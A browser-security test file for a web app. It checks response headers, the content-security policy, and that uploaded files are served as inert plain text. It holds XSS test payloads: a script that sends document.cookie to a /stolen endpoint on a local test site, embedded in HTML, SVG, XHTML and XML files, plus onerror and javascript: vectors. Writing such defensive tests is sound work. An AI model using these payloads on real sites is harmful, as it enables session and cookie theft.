// What pages and files may do in a browser: their headers, and what untrusted text in them cannot do.

import type { App } from "../fixture/app.ts";
import { Site } from "../fixture/site.ts";
import { expect, test as base } from "../fixture/test.ts";

const test = base.extend<{ site: Site }>({
  site: async ({}, use) => {
    const site = await Site.start();
    await use(site);
    await site.close();
  },
});

/** On every answer, whoever wrote it. */
const EVERYWHERE = {
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "same-origin",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
};

/** A script of ours, as the page names it. */
async function scriptOf(app: App): Promise<string> {
  const html = await (await fetch(app.url)).text();
  return /\/pkg\/app\.[0-9a-f]+\.js/.exec(html)![0];
}

async function put(app: App, name: string, path: string, body: string): Promise<string> {
  const address = `${app.url}/agents/coderagent/${name}/files/${path}`;
  expect((await fetch(address, { method: "PUT", body })).status).toBe(201);
  return address;
}

test("every answer says what a browser may do with it", async ({ app, name }) => {
  const file = await put(app, name, "a.txt", "a");
  const agent = `${app.url}/agents/coderagent/${name}`;
  const refused = new Headers({ Origin: "https://evil.example" });
  for (const [address, headers] of [
    [`${app.url}/`],
    [`${app.url}/chat/${name}`],
    [`${app.url}/doctor`],
    [`${app.url}/no/such/page`],
    [`${app.url}/health`],
    [`${app.url}/health`, refused],
    [`${app.url}/agents`],
    [`${app.url}/agents/nobody/a`],
    [`${agent}/get-messages`],
    [`${agent}/no/such/thing`],
    [`${agent}/files`],
    [`${agent}/archive`],
    [file],
    [`${app.url}/favicon.svg`],
    [`${app.url}${await scriptOf(app)}`],
  ] as [string, Headers?][]) {
    const response = await fetch(address, headers ? { headers } : {});
    await response.body?.cancel();
    const found = Object.fromEntries(response.headers);
    expect(found, address).toMatchObject(EVERYWHERE);
    const policy = found["content-security-policy"] ?? "";
    expect(policy, address).toMatch(/default-src 'none'/);
    expect(policy, address).toMatch(/frame-ancestors 'none'/);
    expect(policy, address).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/);
    if (found["content-type"]?.startsWith("text/html")) expect(found["cache-control"], address).toBe("no-store");
  }
});

test("a page's policy is of that page alone, and its own scripts are the only ones it runs", async ({
  app,
  chat,
  consoleWatch,
  name,
  page,
}) => {
  const nonceOf = async () => {
    const response = await fetch(`${app.url}/chat/${name}`);
    const nonce = /script-src 'nonce-([^']+)'/.exec(response.headers.get("content-security-policy")!)![1]!;
    const html = await response.text();
    for (const [script] of html.matchAll(/<script[^>]*>/g)) expect(script).toContain(`nonce="${nonce}"`);
    expect(html).not.toMatch(/ on[a-z]+=| style=/);
    return nonce;
  };
  expect(await nonceOf()).not.toBe(await nonceOf());
  await chat.open(name);
  consoleWatch.allow(/Content Security Policy/);
  const ran = await page.evaluate(async () => {
    const tried = window as unknown as { tried: string[] };
    tried.tried = [];
    const script = document.createElement("script");
    script.textContent = "tried.push('inline script')";
    document.body.append(script);
    const holder = document.createElement("div");
    holder.innerHTML = `<img src="/none.png" onerror="tried.push('handler')"><a href="javascript:tried.push('link')">Run</a>`;
    document.body.append(holder);
    holder.querySelector("a")!.click();
    try {
      (0, eval)("tried.push('eval')");
    } catch {
      tried.tried.push("no eval");
    }
    await new Promise((resolve) => holder.querySelector("img")!.addEventListener("error", resolve));
    return tried.tried;
  });
  expect(ran).toEqual(["no eval"]);
});

test("pages, drawer and check work under the policy, without a single violation", async ({ app, chat, name, page }) => {
  // A violation is an error on the console, where every test looks; here it is counted besides.
  const violations: string[] = [];
  await page.exposeFunction("violated", (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    const { violated } = window as unknown as { violated: (directive: string) => void };
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
      violated(`${violatedDirective} ${blockedURI}`);
    });
  });
  await put(app, name, "a.txt", "a text");
  await chat.openStart();
  await chat.open(name);
  await chat.send("[[fake:markdown]]");
  await expect(chat.answers).toContainText("smallphone");
  await page.getByRole("button", { name: /^Files/ }).click();
  await page.getByRole("treeitem", { name: /a\.txt/ }).click();
  await expect(page.getByText("a text")).toBeVisible();
  await page.goto(`${app.url}/doctor?name=${name}`);
  await expect(page.getByRole("status")).toHaveText("All is well.", { timeout: 30_000 });
  await page.goto(`${app.url}/no/such/page`);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(violations).toEqual([]);
});

test("a file of the conversation runs nothing when it is opened", async ({ app, consoleWatch, name, page, site }) => {
  consoleWatch.allow(/./);
  const steal = `fetch("${site.url}/stolen?" + document.cookie)`;
  const documents = {
    "page.html": `<!doctype html><title>Page</title><script>${steal}</script><img src="${site.url}/picture"><p>A page</p>`,
    "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload='${steal}'><script>${steal}</script><image href="${site.url}/picture"/></svg>`,
    "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>${steal}</script></head></html>`,
    "page.xml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${steal}</script></html>`,
    "script.js": steal,
    "data.json": `{"a":"<script>${steal.replaceAll('"', "'")}</script>"}`,
  };
  // Elsewhere each of the first three does what this test must not see.
  site.put("/control", documents["page.html"]);
  await page.goto(`${site.url}/control`);
  await expect.poll(() => site.asked).toEqual(expect.arrayContaining(["/picture", "/stolen"]));
  site.asked.length = 0;
  for (const [path, body] of Object.entries(documents)) {
    const address = await put(app, name, path, body);
    const response = await page.goto(address, { waitUntil: "load" });
    expect(response?.headers()["content-type"], path).toMatch(/^text\/plain/);
    await expect(page.locator("body"), path).toContainText(body.slice(0, 20));
  }
  // A request that anything above had made would have come before this one.
  await page.goto(`${site.url}/last`);
  expect(site.asked).toEqual(["/last"]);
});
